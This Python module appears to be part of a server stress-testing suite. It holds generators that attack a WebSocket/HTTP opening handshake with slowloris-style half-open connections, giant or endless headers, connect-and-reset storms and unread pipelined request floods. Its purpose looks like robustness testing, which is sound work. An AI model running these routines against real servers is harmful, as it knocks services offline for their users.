"""Attacks on the opening handshake: connections that never complete it, and too many connections."""

from __future__ import annotations

import contextlib
import itertools
import socket
import time
from collections.abc import Callable, Iterator

from campaigns.common.handshake import fresh_request as head

from .target import OPEN_TIMEOUT, Several, Target, reset

# The maximum number of open connections of an attacker.
HELD = 1500


def halves(target: Target, texts: list[bytes], host: Callable[[], str | None]) -> Iterator[None]:
    """Clients that send a part of the handshake, then nothing, or a byte now and then."""
    with Several() as socks:
        try:
            yield from _come(socks, target, texts, host)
        finally:
            # The newest clients may all have waited in the system's backlog until now: one is closed when its time is
            # over.
            end = time.monotonic() + 2 * OPEN_TIMEOUT
            while not target.tally["closed"] and time.monotonic() < end:
                socks.reap(target)
                time.sleep(0.02)


def _come(socks: Several, target: Target, texts: list[bytes], host: Callable[[], str | None]) -> Iterator[None]:
    for number in itertools.count():
        for _ in range(10):
            sock = target.connect(host())
            socks.append(sock)
            sock.setblocking(False)
            with contextlib.suppress(OSError):
                sock.send(texts[number % len(texts)])
        for old in socks[::7]:
            with contextlib.suppress(OSError):
                old.send(b"x")
        if number % 5 == 0:
            socks.reap(target)
        while len(socks) > HELD:
            socks.pop(0).close()
        yield


def _halves_of_heads() -> list[bytes]:
    whole = head("/", "X: " + "x" * 8_000)
    return [b"", whole[:20], whole[:-3]]


def half_open(target: Target) -> Iterator[None]:
    """Nothing, half a request, or all but its end, from one address."""
    return halves(target, _halves_of_heads(), lambda: None)


def half_open_everywhere(target: Target) -> Iterator[None]:
    return halves(target, _halves_of_heads(), target.another_host)


def huge_heads(target: Target) -> Iterator[None]:
    """Megabytes of header fields, sent as fast as possible."""
    many = b"X-Field: " + b"x" * 1_000 + b"\r\n"
    for number in itertools.count():
        with target.connect() as sock:
            if number % 2:
                target.push(sock, head()[:-2] + many * 4_000, 0.5)
            else:
                target.push(sock, b"GET /" + b"x" * 4_000_000, 0.5)
            target.read_out(sock)
        yield


def endless_heads(target: Target) -> Iterator[None]:
    """Each client sends a byte in turn, of an endless head."""
    with Several() as socks:
        while True:
            if len(socks) < 200:
                for _ in range(10):
                    socks.append(target.connect())
                    socks[-1].setblocking(False)
                    socks[-1].send(head()[:-2])
            for sock in socks:
                with contextlib.suppress(OSError):
                    sock.send(b"x")
            socks.reap(target)
            yield


def many_fields(target: Target) -> Iterator[None]:
    """The maximum number of header fields and length of the query, and more."""
    accepted = ["X: " + "x" * 80] * 120
    refused = ["X: x"] * 2_000
    for number in itertools.count():
        query = "/?" + "&a=%41" * (200 if number % 3 else 3_000)
        with target.dial(query, *(accepted if number % 2 else refused)):
            pass
        yield


def storms(target: Target) -> Iterator[None]:
    """Clients connect and leave before they are accepted."""
    while True:
        socks = [target.connect() for _ in range(50)]
        for number, sock in enumerate(socks):
            if number % 2:
                with contextlib.suppress(OSError):
                    sock.sendall(head())
            reset(sock)
        yield


def come_and_go(target: Target) -> Iterator[None]:
    """Complete handshakes, one after the other: closed at once, reset, or left open without data."""
    with Several() as left:
        for number in itertools.count():
            sock = target.dial()
            if number % 3 == 0:
                sock.close()
            elif number % 3 == 1:
                reset(sock)
            else:
                left.append(sock)
                if len(left) > 100:
                    left.pop(0).close()
            yield


def pipelines(target: Target) -> Iterator[None]:
    """Thousands of requests at once, whose answers are not read."""
    get = b"GET /nothing HTTP/1.1\r\nHost: localhost\r\n\r\n"
    post = b"POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n" + b"5\r\nxxxxx\r\n" * 2_000
    return _pushes(target, lambda number: (get * 2_000, post * 20)[number % 2])


def tails(target: Target) -> Iterator[None]:
    """An accepted request followed by many invalid frames; no answer is read."""
    return _pushes(target, lambda _: head() + b"no frame" * 10_000)


def _pushes(target: Target, bytes_of: Callable[[int], bytes]) -> Iterator[None]:
    with Several() as socks:
        for number in itertools.count():
            sock = target.connect()
            socks.append(sock)
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            target.push(sock, bytes_of(number), 0.2)
            socks.reap(target)
            if len(socks) > 30:
                socks.pop(0).close()
            yield
